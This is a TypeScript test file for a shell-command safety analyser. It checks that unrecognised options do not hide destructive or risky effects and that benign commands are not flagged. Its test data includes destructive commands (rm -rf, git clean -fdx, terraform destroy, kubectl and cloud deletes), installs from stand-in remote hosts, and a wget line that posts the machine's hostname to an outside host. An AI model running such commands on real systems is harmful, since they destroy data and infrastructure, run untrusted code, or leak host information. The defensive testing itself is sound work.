import { describe, expect, it } from "vitest";
import { type Harm, harms } from "./harms.ts";
import { readShell } from "./read.ts";

const ada = { workingDirectory: "/home/ada/project", home: "/home/ada" };

const harmful: readonly (readonly [command: string, does: Harm])[] = [
  ["kubectl -v 6 delete pod x", "discards"],
  ["kubectl --unheard 6 delete pod x", "discards"],
  ["kubectl --unheard delete pod x", "discards"],
  ["docker --tlscacert ca rm -f x", "discards"],
  ["docker --unheard ca rm -f x", "discards"],
  ["docker --debug rm x", "discards"],
  ["docker compose -f a.yml down -v", "discards"],
  ["docker compose --unheard a.yml -p x down -v", "discards"],
  ["git --attr-source HEAD clean -fdx", "deletes"],
  ["git --unheard HEAD clean -fdx", "deletes"],
  ["git --unheard log clean -fdx", "deletes"],
  ["git --unheard a --other b clean -fdx", "deletes"],
  ["git --list-cmds main clean -fdx", "deletes"],
  ["npm --loglevel silent install http://x.example/a.tgz", "installs from elsewhere"],
  ["npm --unheard silent install http://x.example/a.tgz", "installs from elsewhere"],
  ["cargo +nightly install --git https://x.example/a", "installs from elsewhere"],
  ["rustup run nightly cargo install --git https://x.example/a", "installs from elsewhere"],
  ["terraform -chdir=x destroy", "discards"],
  ["aws --unheard bar s3 rm s3://x", "discards"],
  ["gcloud compute --project p instances delete x", "discards"],
  ["helm --unheard bar uninstall x", "discards"],
  ["systemctl --unheard bar stop nginx", "signals"],
  ["sudo --unheard x rm -rf src", "deletes"],
  ["sudo --unheard rm -rf src", "deletes"],
  ["timeout --unheard 3 5 rm -rf src", "deletes"],
  ["nice --unheard 5 rm -rf src", "deletes"],
  ["find . --unheard -delete", "deletes"],
  ["python3 -Z x -c 'import os; os.remove(\"a\")'", "deletes"],
  ["python3 --unheard x -c 'import os; os.remove(\"a\")'", "deletes"],
  ["node --unheard x -e 'eval(f)'", "can't be told"],
];

const harmless: readonly string[] = [
  "git --no-pager log",
  "git -P diff",
  "git --no-optional-locks status",
  "git --literal-pathspecs add a",
  "git -c color.ui=always diff",
  "kubectl --context x get pods",
  "kubectl -v 6 get pods",
  "kubectl --unheard 6 get pods",
  "npm --silent test",
  "npm --loglevel silent run build",
  "npm --unheard silent run build",
  "yarn --silent build",
  "pnpm --filter web build",
  "pnpm -r test",
  "docker --debug ps",
  "docker compose -f a.yml logs",
  "docker compose -f a.yml -p x up -d",
  "cargo +nightly build",
  "rustup run nightly cargo test",
  "terraform -chdir=x plan",
  "aws --output json s3 ls",
  "helm --debug template x",
  "go -C dir test ./...",
  "python3 -u train.py -c config.yaml",
];

describe("an option that no list contains", () => {
  it.each(harmful)("does not hide the effects of %s", (command, does) => {
    expect(readShell(command, ada).effects.filter(harms[does])).not.toEqual([]);
  });

  it.each(harmless)("does not make %s harmful", (command) => {
    const kinds = readShell(command, ada).effects.map(({ kind }) => kind);
    expect(kinds).not.toEqual(
      expect.arrayContaining([expect.stringMatching(/^(anything|delete|discard|signal|install|persist)$/)]),
    );
  });

  it("leaves open whether it takes the next word as its value", () => {
    const certainties = (command: string) =>
      readShell(command, ada).effects.flatMap(({ kind, certainty }) => (kind === "discard" ? [certainty] : []));
    expect(certainties("docker --unheard rm x")).toEqual(["unknown"]);
    expect(certainties("docker --debug rm x")).toEqual(["certain"]);
    expect(certainties("docker --tlscacert ca rm x")).toEqual(["certain"]);
  });
});

it("an option whose value has a wildcard is no operand", () => {
  const { effects } = readShell('wget --post-data="a=$(hostname)" http://x.org/b');
  expect(effects.flatMap((each) => (each.kind === "write" ? [each.target?.path] : []))).toEqual(["b"]);
});
